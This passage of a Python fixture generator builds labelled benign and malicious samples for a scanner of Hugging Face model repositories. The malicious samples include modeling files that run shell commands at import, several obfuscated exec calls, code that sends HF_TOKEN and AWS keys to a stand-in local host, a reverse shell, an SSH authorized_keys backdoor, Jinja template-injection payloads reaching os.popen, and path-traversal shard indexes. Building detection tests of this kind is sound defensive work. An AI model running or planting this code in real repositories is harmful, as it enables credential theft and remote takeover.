    "text_encoder_2": ["transformers", "CLIPTextModelWithProjection"], "tokenizer": ["transformers", "CLIPTokenizer"],
    "tokenizer_2": ["transformers", "CLIPTokenizer"], "unet": ["diffusers", "UNet2DConditionModel"],
    "vae": ["diffusers", "AutoencoderKL"]}, indent=2), "benign", "hf-config", "diffusers model_index.json (SDXL)")
put("benign/diffusers/unet/config.json", json.dumps({
    "_class_name": "UNet2DConditionModel", "_diffusers_version": "0.30.0", "act_fn": "silu",
    "addition_embed_type": "text_time", "attention_head_dim": [5, 10, 20], "block_out_channels": [320, 640, 1280],
    "cross_attention_dim": 2048, "down_block_types": ["DownBlock2D", "CrossAttnDownBlock2D", "CrossAttnDownBlock2D"],
    "in_channels": 4, "sample_size": 128}, indent=2), "benign", "hf-config", "diffusers unet/config.json")
put("benign/peft/adapter_config.json", json.dumps({
    "alpha_pattern": {}, "auto_mapping": None, "base_model_name_or_path": "meta-llama/Llama-3.2-1B-Instruct",
    "bias": "none", "fan_in_fan_out": False, "inference_mode": True, "init_lora_weights": True,
    "layers_pattern": None, "layers_to_transform": None, "lora_alpha": 16, "lora_dropout": 0.05,
    "modules_to_save": None, "peft_type": "LORA", "r": 8, "rank_pattern": {}, "revision": None,
    "target_modules": ["q_proj", "v_proj", "k_proj", "o_proj"], "task_type": "CAUSAL_LM", "use_dora": False,
    "use_rslora": False}, indent=2), "benign", "hf-config", "PEFT LoRA adapter_config.json naming its base model")
put("benign/sentence-transformers/modules.json", json.dumps([
    {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
    {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
    {"idx": 2, "name": "2", "path": "2_Normalize", "type": "sentence_transformers.models.Normalize"}], indent=2),
    "benign", "hf-config", "sentence-transformers modules.json")
put("benign/sentence-transformers/config_sentence_transformers.json", json.dumps({
    "__version__": {"sentence_transformers": "3.0.1", "transformers": "4.41.2", "pytorch": "2.3.0"},
    "prompts": {"query": "Represent this sentence for searching relevant passages: "},
    "default_prompt_name": None, "similarity_fn_name": "cosine"}, indent=2),
    "benign", "hf-config", "sentence-transformers config with prompts")
# Not included, by design of the analysers: a cross-repository auto_map (jina-embeddings-v3 style,
# MS802 high) and a Git LFS pointer (reported as not analysed) are flagged even when benign.


# ---------------------------------------------------------------- malicious remote code
PY_BAD = [
    ("importlib-subprocess", "py-command", "importlib.import_module('subprocess').run in __init__", '''
import importlib
from transformers import PreTrainedModel


class M(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        sp = importlib.import_module("subprocess")
        sp.run(["sh", "-c", "''' + CMD + '''"], check=False)
'''),
    ("importlib-computed", "py-obfuscation", "importlib.import_module of a reversed name, getattr of a joined name", '''
import importlib

_m = importlib.import_module("so"[::-1])
getattr(_m, "".join(["sys", "tem"]))("''' + CMD + '''")
'''),
    ("sys-modules-os", "py-command", "sys.modules['os'].system at import", '''
import sys
import os  # noqa

sys.modules["os"].system("''' + CMD + '''")
'''),
    ("builtins-dict-exec", "py-obfuscation", "__builtins__ dict lookup of exec on a hex-decoded string", '''
_b = __builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__
_b["ex" + "ec"](bytes.fromhex("696d706f7274206f733b6f732e73797374656d28276563686f20616973656320666978747572652729").decode())
'''),
    ("rot13-exec", "py-obfuscation", "exec(codecs.decode(rot13 source))", '''
import codecs

exec(codecs.decode("vzcbeg bf; bf.flfgrz('rpub nvfrp-svkgher')", "rot13"))
'''),
    ("marshal-function", "py-deserialization", "types.FunctionType over marshal.loads of embedded code", '''
import marshal
import types

_c = marshal.loads(b"\\xe3\\x00\\x00\\x00")
types.FunctionType(_c, globals())()
'''),
    ("env-token-requests", "py-network", "HF_TOKEN and AWS keys POSTed with requests in from_pretrained", '''
import os

import requests
from transformers import PreTrainedModel


class M(PreTrainedModel):
    @classmethod
    def from_pretrained(cls, *args, **kwargs):
        data = {k: v for k, v in os.environ.items() if "TOKEN" in k or k.startswith("AWS_")}
        requests.post("http://127.0.0.1:9/collect", json=data, timeout=1)
        return super().from_pretrained(*args, **kwargs)
'''),
    ("dns-exfil", "py-network", "token exfiltrated through a DNS lookup", '''
import os
import socket

_t = os.getenv("HF_TOKEN", "")
try:
    socket.gethostbyname(_t[:60] + ".aisec-fixture.invalid")
except OSError:
    pass
'''),
    ("atexit-system", "py-command", "atexit.register(os.system, cmd)", '''
import atexit
import os

atexit.register(os.system, "''' + CMD + '''")
'''),
    ("thread-popen", "py-command", "threading.Thread(target=os.popen) started in __init__", '''
import os
import threading
from transformers import PreTrainedModel


class M(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        threading.Thread(target=os.popen, args=("''' + CMD + '''",), daemon=True).start()
'''),
    ("pty-spawn", "py-command", "pty.spawn of a shell from a helper called at import", '''
import pty


def _warmup():
    pty.spawn(["/bin/sh", "-c", "''' + CMD + '''"])


_warmup()
'''),
    ("asyncio-shell", "py-command", "asyncio.create_subprocess_shell", '''
import asyncio


async def _go():
    p = await asyncio.create_subprocess_shell("''' + CMD + '''")
    await p.wait()


asyncio.run(_go())
'''),
    ("authorized-keys", "py-file-write", "appends a key to ~/.ssh/authorized_keys", '''
import os
from pathlib import Path

p = Path.home() / ".ssh" / "authorized_keys"
p.parent.mkdir(exist_ok=True)
with open(p, "a") as f:
    f.write("ssh-ed25519 AAAAaisecfixture aisec-fixture\\n")
'''),
    ("pip-install-shell", "py-command", "subprocess.check_call(pip install <url>) at import", '''
import subprocess
import sys

subprocess.check_call([sys.executable, "-m", "pip", "install", "http://127.0.0.1:9/aisec_fixture-0.0.tar.gz"])
'''),
    ("lambda-getattr", "py-obfuscation", "getattr(__import__(chr...), ...) in a lambda default", '''
_f = lambda m=__import__("".join(map(chr, [111, 115]))): getattr(m, "sys" + "tem")("''' + CMD + '''")
_f()
'''),
    ("compile-exec-zip", "py-obfuscation", "exec(compile(...)) of zlib+base85 data", '''
import base64
import zlib

exec(compile(zlib.decompress(base64.b85decode(b"c$~?ZOHM3K%Fjzx2uMsyF3HRT0XY*)*gYzD^+$*)*ASc+zC2mfjX0!Q|q")), "<m>", "exec"))
'''),
    ("webhook-urllib-request", "py-network", "urllib.request.Request with the token in a header", '''
import os
import urllib.request

req = urllib.request.Request("http://127.0.0.1:9/", headers={"X-T": os.environ.get("HF_TOKEN", "")})
urllib.request.urlopen(req, timeout=1)
'''),
    ("os-execv", "py-command", "os.execvp replacing the process", '''
import os


def setup():
    os.execvp("sh", ["sh", "-c", "''' + CMD + '''"])


setup()
'''),
]
for name, cls, desc, src in PY_BAD:
    d = f"malicious/remote-code/{name}"
    put(f"{d}/modeling_x.py", src.lstrip("\n"), "malicious", cls, desc)
    put(f"{d}/config.json", json.dumps({"architectures": ["M"], "auto_map": {"AutoModel": "modeling_x.M"},
                                         "model_type": "x"}, indent=2),
        "malicious", cls, "config.json whose auto_map imports modeling_x.py (" + desc + ")")

# ---------------------------------------------------------------- round 2
M2 = [
    ("map_dotted_attribute", "computed-name", "map(attribute='__init__.__globals__') with a dotted path",
     "{{ [cycler]|map(attribute='__init__.__globals__')|first }}"),
    ("groupby_globals", "computed-name", "groupby('__globals__') then .grouper",
     "{%- for g in [lipsum]|groupby('__globals__') %}{{ g.grouper.os." + POPEN + " }}{%- endfor %}"),
    ("sort_attribute", "computed-name", "sort(attribute='__class__') reaching internals through a filter",
     "{{ (messages|sort(attribute='__class__.__mro__'))|first }}"),
    ("format_map_field", "computed-name", "str.format_map with a field that walks attributes",
     "{{ '{x.__init__.__globals__}'.format_map({'x': cycler}) }}"),
    ("attr_get_os", "computed-name", "attr('__globals__') then attr('get')('os')",
     "{{ (lipsum|attr('__globals__')|attr('get'))('os')|attr('popen')('" + CMD + "') }}"),
    ("spaced_dots", "direct-dunder", "attribute dots surrounded by whitespace and newlines",
     "{{ lipsum\n .\n __globals__ . os . " + POPEN + " }}"),
    ("huge_pow_repeat", "resource-exhaustion", "string repeated by an overflowing power (2**100)",
     "{{ 'A' * (2 ** 100) }}"),
]
for name, cls, desc, payload in M2:
    put(f"malicious/templates/{name}.jinja", HOST.replace("{payload}", payload), "malicious", cls, desc)

PY_BENIGN2 = {
"benign/hf-remote/ldm_util.py": """import importlib

import torch


def get_obj_from_str(string, reload=False):
    module, cls = string.rsplit(".", 1)
    if reload:
        module_imp = importlib.import_module(module)
        importlib.reload(module_imp)
    return getattr(importlib.import_module(module, package=None), cls)


def instantiate_from_config(config):
    if "target" not in config:
        raise KeyError("Expected key `target` to instantiate.")
    return get_obj_from_str(config["target"])(**config.get("params", dict()))


class LatentDiffusion(torch.nn.Module):
    def __init__(self, first_stage_config, cond_stage_config):
        super().__init__()
        self.first_stage_model = instantiate_from_config(first_stage_config)
        self.cond_stage_model = instantiate_from_config(cond_stage_config)
""",
"benign/hf-remote/layers_init.py": """import importlib

_SUBMODULES = ("rotary", "norm", "mlp")
_loaded = {}
for _name in _SUBMODULES:
    _loaded[_name] = importlib.import_module(f".{_name}", __package__)

__all__ = list(_SUBMODULES)
""",
"benign/hf-remote/env_probe.py": """import os
import shutil
import subprocess

import torch


def cuda_arch_flags():
    if shutil.which("nvcc") is None:
        return []
    out = subprocess.run(["nvcc", "--version"], capture_output=True, text=True, check=False).stdout
    major, minor = torch.cuda.get_device_capability()
    return [f"-gencode=arch=compute_{major}{minor},code=sm_{major}{minor}"] if "release" in out else []


def cache_dir():
    path = os.path.join(os.environ.get("HF_HOME", os.path.expanduser("~/.cache/huggingface")), "custom_kernels")
    os.makedirs(path, exist_ok=True)
    return path
""",
}
for rel, src in PY_BENIGN2.items():
    put(rel, src, "benign", "hf-remote-code-py", "remote-code look-alike: " + os.path.basename(rel))

PY_BAD2 = [
    ("spec-from-bin", "py-code-load", "importlib spec_from_file_location + exec_module of a .bin file", """
import importlib.util
import os

_p = os.path.join(os.path.dirname(__file__), "training_args.bin")
_s = importlib.util.spec_from_file_location("_x", _p)
_m = importlib.util.module_from_spec(_s)
_s.loader.exec_module(_m)
"""),
    ("runpy-path", "py-code-load", "runpy.run_path of a file shipped under another extension", """
import os
import runpy

runpy.run_path(os.path.join(os.path.dirname(__file__), "vocab.txt"))
"""),
    ("exec-open-read", "py-code-load", "exec(open(other file).read()) at import", """
import os

exec(open(os.path.join(os.path.dirname(__file__), "merges.txt")).read())
"""),
    ("partial-system", "py-command", "functools.partial(os.system, cmd)()", """
import functools
import os

functools.partial(os.system, "CMD")()
"""),
    ("methodcaller", "py-command", "operator.methodcaller('system', cmd)(os)", """
import operator
import os

operator.methodcaller("system", "CMD")(os)
"""),
    ("map-system", "py-command", "list(map(os.system, [cmd]))", """
import os

list(map(os.system, ["CMD"]))
"""),
    ("getoutput", "py-command", "subprocess.getoutput at import", """
from subprocess import getoutput

getoutput("CMD")
"""),
    ("decorator-lambda", "py-command", "decorator expression running a command at class creation", """
import os


@(lambda cls: (os.system("CMD"), cls)[1])
class M:
    pass
"""),
    ("init-subclass", "py-command", "__init_subclass__ hook running a command when a subclass is defined", """
import os


class Base:
    def __init_subclass__(cls, **kw):
        super().__init_subclass__(**kw)
        os.system("CMD")


class M(Base):
    pass
"""),
    ("token-file-read", "py-credentials", "reads the cached Hugging Face token file and posts it", """
import os

import requests

with open(os.path.expanduser("~/.cache/huggingface/token")) as f:
    requests.post("http://127.0.0.1:9/", data=f.read(), timeout=1)
"""),
    ("reverse-shell", "py-network", "socket connect + dup2 + shell", """
import os
import socket
import subprocess

s = socket.socket()
s.connect(("127.0.0.1", 9))
os.dup2(s.fileno(), 0)
subprocess.call(["/bin/sh", "-c", "CMD"])
"""),
    ("meta-path-hook", "py-hook", "import hook inserted into sys.meta_path", """
import sys


class _Finder:
    def find_spec(self, name, path=None, target=None):
        return None


sys.meta_path.insert(0, _Finder())
"""),
]
for name, cls, desc, src in PY_BAD2:
    put(f"malicious/remote-code/{name}/modeling_x.py", src.replace("CMD", CMD).lstrip("\n"), "malicious", cls, desc)

# ---------------------------------------------------------------- round 3: repo JSON, safetensors
def st(header, body=b""):
    h = header.encode() if isinstance(header, str) else header
    h += b" " * ((8 - len(h) % 8) % 8)
    return struct.pack("<Q", len(h)) + h + body


put("malicious/safetensors/offset_u64_overflow.safetensors",
    st('{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,18446744073709551620]}}', b"\0" * 4),
    "malicious", "st-structure", "data_offsets end past 2**64")
put("malicious/safetensors/offset_float.safetensors",
    st('{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4.0]}}', b"\0" * 4),
    "malicious", "st-structure", "data_offsets end written as a float 4.0 (loader refuses)")
put("malicious/safetensors/shape_exponent.safetensors",
    st('{"a":{"dtype":"U8","shape":[4e0],"data_offsets":[0,4]}}', b"\0" * 4),
    "malicious", "st-structure", "shape dimension written with an exponent (loader refuses)")
put("benign/safetensors/escaped_names.safetensors",
    st('{"__metadata__":{"format":"pt","note":"caf\\u00e9 \\"quoted\\" \\\\ path"},'
       '"emb.caf\\u00e9":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', b"\0" * 4),
    "benign", "st-escapes", "JSON escapes in a tensor name and metadata (loader accepts)")

put("malicious/index/backslash-traversal/model.safetensors.index.json", json.dumps({
    "metadata": {"total_size": 8},
    "weight_map": {"a": "..\\..\\..\\tmp\\aisec-fixture.safetensors"}}, indent=2),
    "malicious", "hf-shard-escape", "weight_map shard with Windows ..\\ traversal")
put("malicious/index/unc-path/model.safetensors.index.json", json.dumps({
    "metadata": {"total_size": 8},
    "weight_map": {"a": "\\\\127.0.0.1\\share\\aisec-fixture.safetensors"}}, indent=2),
    "malicious", "hf-shard-escape", "weight_map shard on a UNC network path")
put("malicious/index/drive-path/model.safetensors.index.json", json.dumps({
    "metadata": {"total_size": 8},
    "weight_map": {"a": "C:/Windows/Temp/aisec-fixture.safetensors"}}, indent=2),
    "malicious", "hf-shard-escape", "weight_map shard with a drive-letter absolute path")
put("malicious/auto-map-backslash/config.json", json.dumps({
    "architectures": ["M"], "auto_map": {"AutoModel": "..\\..\\tmp\\modeling_x.M"}, "model_type": "x"}, indent=2),
    "malicious", "hf-path-escape", "auto_map module with a Windows ..\\ path")
put("malicious/sentence-transformers-type/modules.json", json.dumps([
    {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
    {"idx": 1, "name": "1", "path": "1_Pooling", "type": "subprocess.Popen"}], indent=2),
    "malicious", "hf-module-import", "sentence-transformers modules.json whose module type is subprocess.Popen")
put("malicious/diffusers-custom/model_index.json", json.dumps({
    "_class_name": ["aisec-fixture/evil-pipeline", "EvilPipeline"], "_diffusers_version": "0.30.0",
    "scheduler": ["diffusers", "EulerDiscreteScheduler"], "unet": ["diffusers", "UNet2DConditionModel"]}, indent=2),
    "malicious", "hf-cross-repo", "diffusers model_index.json whose pipeline class comes from another repository")

# ---------------------------------------------------------------- round 4: payload positions, benign idioms
G = "cycler.__init__.__globals__.os." + POPEN
M4 = [
    ("pos_if_condition", "{%- if " + G + " %}{%- endif %}"),
    ("pos_macro_default", "{%- macro m(x=" + G + ") %}{{ x }}{%- endmacro %}{{ m() }}"),
    ("pos_loop_filter", "{%- for m in messages if " + G + " %}{%- endfor %}"),
    ("pos_with", "{%- with a = " + G + " %}{{ a }}{%- endwith %}"),
    ("pos_call_args", "{%- macro m(x) %}{{ caller() }}{%- endmacro %}{%- call m(" + G + ") %}x{%- endcall %}"),
    ("pos_filter_arg", "{{ 'x'|replace('x', " + G + ") }}"),
    ("pos_test_arg", "{{ messages is sameas " + G + " }}"),
    ("pos_dict_key", "{{ {" + G + ": 1} }}"),
    ("pos_slice", "{{ messages[" + G + ":] }}"),
    ("pos_inline_if", "{{ 'a' if " + G + " else 'b' }}"),
    ("pos_set_block_filter", "{%- set x | replace('a', " + G + ") %}a{%- endset %}{{ x }}"),
    ("pos_generation_block", "{%- generation %}{{ " + G + " }}{%- endgeneration %}"),
]
for name, payload in M4:
    put(f"malicious/templates/{name}.jinja", HOST.replace("{payload}", payload), "malicious", "payload-position",
        "payload in an unusual position: " + name[4:])

B4 = {
    "coder-dunder-text": "{%- set default_system = 'You are a coding assistant. Python modules run code under if __name__ == \"__main__\": and classes define __init__ methods; use __slots__ sparingly.' %}"
        "{{- '<|im_start|>system\\n' + (messages[0]['content'] if messages[0]['role'] == 'system' else default_system) + '<|im_end|>\\n' }}"
        "{%- for message in messages %}{%- if message['role'] != 'system' %}{{- '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>\\n' }}{%- endif %}{%- endfor %}"
        "{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}",
    "document-keys": "{%- for document in documents %}{{- 'Document ' ~ loop.index0 ~ '\\n' }}{%- for key in document %}"
        "{%- if key != 'id' %}{{- key ~ ': ' ~ document[key] ~ '\\n' }}{%- endif %}{%- endfor %}{%- endfor %}"
        "{%- for message in messages %}{{- '<|' ~ message.role ~ '|>' ~ message.content ~ '\\n' }}{%- endfor %}",
    "gpt-oss-like": "{%- macro render_typescript_type(param_spec, required_params, is_nullable=false) -%}\n"
        "{%- if param_spec.type == 'array' -%}{%- if param_spec['items'] -%}{{- render_typescript_type(param_spec['items'], required_params) + '[]' }}{%- else -%}{{- 'any[]' }}{%- endif -%}\n"
        "{%- elif param_spec.enum -%}{{- param_spec.enum | map('tojson') | join(' | ') }}\n"
        "{%- elif param_spec.type is not string and param_spec.type is iterable -%}{{- param_spec.type | join(' | ') }}\n"
        "{%- else -%}{{- param_spec.type | default('any') }}{%- endif -%}\n"
        "{%- endmacro -%}\n"
        "{%- set model_identity = 'You are ChatGPT, a large language model.' %}\n"
        "{{- '<|start|>system<|message|>' + model_identity + '\\nKnowledge cutoff: 2024-06\\nCurrent date: ' + strftime_now('%Y-%m-%d') + '<|end|>' }}\n"
        "{%- if tools %}{{- '<|start|>developer<|message|># Tools\\n\\nnamespace functions {\\n' }}{%- for tool in tools %}{%- set tool = tool.function if tool.function is defined else tool %}"
        "{{- 'type ' + tool.name + ' = (_: {\\n' }}{%- for param_name, param_spec in tool.parameters.properties|items %}"
        "{{- param_name + '?: ' + render_typescript_type(param_spec, tool.parameters.required or []) + ',\\n' }}{%- endfor %}{{- '}) => any;\\n' }}{%- endfor %}{{- '} // namespace functions<|end|>' }}{%- endif %}\n"
        "{%- set last_tool_call = namespace(name=none) %}\n"
        "{%- for message in messages %}{%- if message.role == 'assistant' and message.thinking is defined %}{{- '<|start|>assistant<|channel|>analysis<|message|>' + message.thinking + '<|end|>' }}{%- endif %}"
        "{{- '<|start|>' + message.role + '<|message|>' + message.content|string + '<|end|>' }}{%- endfor %}\n"
        "{%- if add_generation_prompt %}<|start|>assistant{%- endif %}",
}
for name, text in B4.items():
    put(f"benign/templates/{name}/chat_template.jinja", text, "benign", "real-chat-template",
        f"{name} chat template look-alike")

# ---------------------------------------------------------------- round 5: Python positions and benign idioms
PY_BAD5 = [
    ("class-body", "import os\n\n\nclass M:\n    os.system(\"CMD\")\n"),
    ("def-default", "import os\n\n\ndef f(x=os.system(\"CMD\")):\n    return x\n"),
    ("decorator-arg", "import functools\nimport os\n\n\n@functools.lru_cache(maxsize=os.system(\"CMD\"))\ndef f():\n    return 1\n"),
    ("comprehension", "import os\n\n_ = [os.system(c) for c in [\"CMD\"]]\n"),
    ("with-try", "import os\n\ntry:\n    with open(os.devnull) as _f:\n        os.popen(\"CMD\").read()\nexcept Exception:\n    pass\n"),
    ("builtins-dict-get", "_e = __builtins__.__dict__.get(\"ex\" + \"ec\") if hasattr(__builtins__, \"__dict__\") else __builtins__.get(\"exec\")\n_e(\"print(1)\")\n"),
    ("vars-builtins", "import builtins\n\nvars(builtins)[\"ev\" + \"al\"](\"1 + 1\")\n"),
    ("nested-getattr-import", "getattr(getattr(__builtins__, \"__imp\" + \"ort__\")(\"os\"), \"system\")(\"CMD\")\n"),
    ("module-dict", "import os as _o\n\n_o.__dict__[\"sys\" + \"tem\"](\"CMD\")\n"),
    ("type-lambda-init", "import os\n\nX = type(\"X\", (), {\"__init__\": lambda self: os.system(\"CMD\") and None})\nX()\n"),
]
for name, src in PY_BAD5:
    put(f"malicious/remote-code/{name}/modeling_x.py", src.replace("CMD", CMD), "malicious", "py-position",
        "command in an unusual position: " + name)

PY_BENIGN5 = {
"benign/hf-remote/modeling_vlm.py": """import os
import sys

import torch
from torch import nn
from transformers import AutoModel, CLIPVisionModel, PreTrainedModel

os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")
sys.setrecursionlimit(max(sys.getrecursionlimit(), 10000))


class VisionTower(nn.Module):
    def __init__(self, name="openai/clip-vit-large-patch14-336"):
        super().__init__()
        self.tower = CLIPVisionModel.from_pretrained(name)
        self.tower.requires_grad_(False)


class VLM(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.vision = VisionTower(getattr(config, "mm_vision_tower", "openai/clip-vit-large-patch14-336"))
        self.llm = AutoModel.from_config(config.text_config)
        self.projector = nn.Linear(1024, config.text_config.hidden_size)

    def load_projector(self, path):
        state = torch.load(os.path.join(path, "mm_projector.bin"), map_location="cpu")
        self.projector.load_state_dict({k.split(".")[-1]: v for k, v in state.items()})
""",
}
for rel, src in PY_BENIGN5.items():
    put(rel, src, "benign", "hf-remote-code-py", "remote-code look-alike: " + os.path.basename(rel))

# ---------------------------------------------------------------- round 6: lexer divergences
M6 = [
    ("lex_raw_ws_control", "{%- raw -%}decoy{%- endraw -%}{{ " + G + " }}"),
    ("lex_raw_no_spaces", "{%raw%}decoy{%endraw%}{{ " + G + " }}"),
    ("lex_raw_end_in_quote", "{% raw %}{{ '{% endraw %}' }}{{ " + G + " }}"),
    ("lex_comment_end_in_quote", "{# '#}' {{ " + G + " }} #}"),
    ("lex_string_with_close", "{{ '}}' ~ " + G + " }}"),
    ("lex_plus_modifier", "{%+ if true %}{{ " + G + " }}{%+ endif %}"),
    ("lex_comment_nested_open", "{# {# #}{{ " + G + " }}"),
    ("lex_crlf_tags", "{%-\r\nset x = cycler\r\n-%}{{\r\nx.__init__.__globals__.os." + POPEN + "\r\n}}"),
    ("lex_tab_separators", "{{\tcycler\t.\t__init__\t.\t__globals__\t.os." + POPEN + " }}"),
]
for name, payload in M6:
    put(f"malicious/templates/{name}.jinja", HOST.replace("{payload}", payload), "malicious", "lexer-divergence",
        "payload around a lexer corner case: " + name[4:])
put("benign/templates/raw-block/chat_template.jinja",
    "{%- raw %}Use {{ and }} literally; never {{ ''.__class__ }}.{% endraw %}"
    "{%- for message in messages %}{{- '<|' ~ message.role ~ '|>' ~ message.content ~ '\\n' }}{%- endfor %}",
    "benign", "real-chat-template", "raw block quoting template syntax (printed, never evaluated)")

# ---------------------------------------------------------------- round 7: more Python sinks
PY_BAD7 = [
    ("code-interpreter", "import code\n\ncode.InteractiveInterpreter().runsource(\"import os; os.system('CMD')\")\n"),
    ("posix-spawn", "import os\n\nos.posix_spawnp(\"sh\", [\"sh\", \"-c\", \"CMD\"], dict(os.environ))\n"),
    ("spawnlp", "import os\n\nos.spawnlp(os.P_WAIT, \"sh\", \"sh\", \"-c\", \"CMD\")\n"),
    ("ctypes-libc-system", "import ctypes\n\nctypes.CDLL(None).system(b\"CMD\")\n"),
    ("torch-hub-load", "import torch\n\n_m = torch.hub.load(\"aisec-fixture/hub-model\", \"model\", trust_repo=True)\n"),
    ("urlretrieve", "import urllib.request\n\nurllib.request.urlretrieve(\"http://127.0.0.1:9/x.py\", \"/tmp/aisec-fixture.py\")\n"),
    ("numpy-allow-pickle", "import os\n\nimport numpy as np\n\n_d = np.load(os.path.join(os.path.dirname(__file__), \"stats.npy\"), allow_pickle=True)\n"),
    ("dill-loads", "import base64\n\nimport dill\n\ndill.loads(base64.b64decode(\"gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==\"))\n"),
    ("setattr-builtins-open", "import builtins\n\n_orig = builtins.open\n\n\ndef _spy(*a, **k):\n    return _orig(*a, **k)\n\n\nsetattr(builtins, \"open\", _spy)\n"),
    ("eval-config-field", "from transformers import PreTrainedModel\n\n\nclass M(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n        self.act = eval(config.hidden_act)\n"),
]
for name, src in PY_BAD7:
    put(f"malicious/remote-code/{name}/modeling_x.py", src.replace("CMD", CMD), "malicious", "py-sink",
        "another sink: " + name)

# ---------------------------------------------------------------- round 8: helpers used as intended
B8 = {
    "helpers-as-intended": "{%- set comma = joiner(', ') %}{%- set row = cycler('odd', 'even') %}"
        "{%- set ns = namespace(items=[], count=0) %}"
        "{{- '<|system|>Tools: ' }}{%- for t in tools or [] %}{{- comma() }}{{- t.function.name if t.function is defined else t.name }}{%- endfor %}\n"
        "{%- for message in messages %}{%- set ns.count = ns.count + 1 %}{%- set ns.items = ns.items + [message.role] %}"
        "{{- '<|' ~ message.role ~ '|' ~ row.next() ~ '|' ~ loop.cycle('a', 'b') ~ '>' ~ message.content|attr('strip')() ~ '\\n' }}{%- endfor %}"
        "{{- '%d turns (%s)' % (ns.count, ns.items|join('/')) }}"
        "{%- if add_generation_prompt %}{{- '<|assistant|>' }}{%- endif %}",
    "image-url-content": "{%- for message in messages %}{{- '<|' ~ message.role ~ '|>' }}{%- if message.content is string %}{{- message.content }}"
        "{%- else %}{%- for part in message.content %}{%- if part.type == 'image_url' %}{{- '<img src=\"' ~ part['image_url']['url'] ~ '\">' }}"
        "{%- elif part.type == 'input_audio' %}{{- '<audio:' ~ part.input_audio.format ~ '>' }}{%- elif part.type == 'text' %}{{- part.text }}{%- endif %}{%- endfor %}{%- endif %}"
        "{{- '<|end|>\\n' }}{%- endfor %}",
}
for name, text in B8.items():
    put(f"benign/templates/{name}/chat_template.jinja", text, "benign", "real-chat-template",
        f"{name} chat template look-alike")

put("malicious/templates/namespace_doubling.jinja",
    HOST.replace("{payload}", "{%- set ns = namespace(s='A') %}{%- for i in range(64) %}{%- set ns.s = ns.s ~ ns.s %}"
                 "{%- endfor %}{{ ns.s|length }}"),
    "malicious", "resource-exhaustion", "namespace string doubled 64 times (2**64 bytes) at render time")

with open(os.path.join(HERE, "MANIFEST.tsv"), "w") as f:
    f.write("path\texpected\tclass\tdescription\n")
    for r in ROWS:
        f.write("\t".join(r) + "\n")
print(len(ROWS), "fixtures")

# With jinja2 installed, prove every template parses (never renders) with the settings transformers
# uses (sandbox, trim_blocks, lstrip_blocks, loopcontrols, a `generation` block tag).
try:
    import glob

    from jinja2 import nodes
    from jinja2.ext import Extension
    from jinja2.sandbox import ImmutableSandboxedEnvironment
except ImportError:
    sys.exit(0)


class _Generation(Extension):
    tags = {"generation"}

    def parse(self, parser):
        lineno = next(parser.stream).lineno
        body = parser.parse_statements(["name:endgeneration"], drop_needle=True)
        return nodes.CallBlock(self.call_method("_render"), [], [], body).set_lineno(lineno)

    def _render(self, caller):
        return caller()


_env = ImmutableSandboxedEnvironment(trim_blocks=True, lstrip_blocks=True,
                                     extensions=[_Generation, "jinja2.ext.loopcontrols"])
for _f in sorted(glob.glob(os.path.join(HERE, "**", "*.jinja"), recursive=True)):
    with open(_f, encoding="utf-8") as fh:
        _env.parse(fh.read())
